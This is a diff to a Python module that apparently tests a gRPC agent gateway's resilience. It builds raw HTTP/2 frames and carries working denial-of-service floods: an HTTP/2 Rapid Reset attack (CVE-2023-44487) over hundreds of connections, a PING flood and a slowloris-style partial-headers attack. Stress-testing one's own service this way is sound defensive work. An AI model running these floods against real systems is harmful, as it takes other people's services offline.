@@ -14,9 +14,9 @@ from hatchery.gateway.v1.agent_service_pb2_grpc import AgentServiceStub
 Metadata = tuple[tuple[str, str], ...]
 Call = Callable[[AgentServiceStub, Metadata], Awaitable[None]]
 
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_HEADERS, _RST_STREAM, _SETTINGS, _PING = 1, 3, 4, 6
-_END_HEADERS, _CANCEL = 0x4, 8
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
+END_STREAM, END_HEADERS, CANCEL = 0x1, 0x4, 8
 # So many frames a second, in bunches; so many connections; so many calls at once.
 _FRAMES, _BUNCH = 2000, 20
 _CONNECTIONS = 300
@@ -24,7 +24,8 @@ _CALLS = 16
 _PATH = "/hatchery.gateway.v1.AgentService/ListAgents"
 
 
-def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """A frame as HTTP/2 writes it (RFC 9113, 4.1)."""
     return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
@@ -33,11 +34,12 @@ def _literal(name: str, value: str) -> bytes:
     return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))
 
 
-def _headers(target: str) -> bytes:
+def headers(target: str, path: str = _PATH) -> bytes:
+    """The headers of a call, for a HEADERS frame."""
     given = {
         ":method": "POST",
         ":scheme": "http",
-        ":path": _PATH,
+        ":path": path,
         ":authority": target,
         "te": "trailers",
         "content-type": "application/grpc",
@@ -50,7 +52,7 @@ async def _connection(target: str) -> AsyncIterator[asyncio.StreamWriter]:
     """HTTP/2, begun; what the other side says is thrown away."""
     host, _, port = target.partition(":")
     reader, writer = await asyncio.open_connection(host, int(port))
-    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+    writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
 
     async def drain() -> None:
         while await reader.read(65536):
@@ -81,12 +83,12 @@ async def _frames(target: str, bunch: Callable[[int], bytes]) -> None:
 
 async def resets(target: str, _: str) -> None:
     """Begins calls and takes each back at once (CVE-2023-44487)."""
-    headers = _headers(target)
+    begun = headers(target)
 
     def bunch(number: int) -> bytes:
         stream = number * 2 + 1
-        return _frame(_HEADERS, _END_HEADERS, stream, headers) + _frame(
-            _RST_STREAM, 0, stream, struct.pack(">I", _CANCEL)
+        return frame(HEADERS, END_HEADERS, stream, begun) + frame(
+            RST_STREAM, 0, stream, struct.pack(">I", CANCEL)
         )
 
     await _frames(target, bunch)
@@ -94,7 +96,7 @@ async def resets(target: str, _: str) -> None:
 
 async def pings(target: str, _: str) -> None:
     """Asks again and again whether the other side lives."""
-    await _frames(target, lambda number: _frame(_PING, 0, 0, struct.pack(">Q", number)))
+    await _frames(target, lambda number: frame(PING, 0, 0, struct.pack(">Q", number)))
 
 
 async def slow_headers(target: str, _: str) -> None:
@@ -104,7 +106,7 @@ async def slow_headers(target: str, _: str) -> None:
         while True:
             with suppress(OSError):
                 async with _connection(target) as writer:
-                    writer.write(_frame(_HEADERS, 0, 1, _headers(target)[:20]))
+                    writer.write(frame(HEADERS, 0, 1, headers(target)[:20]))
                     await writer.wait_closed()
             await asyncio.sleep(0.05)
 
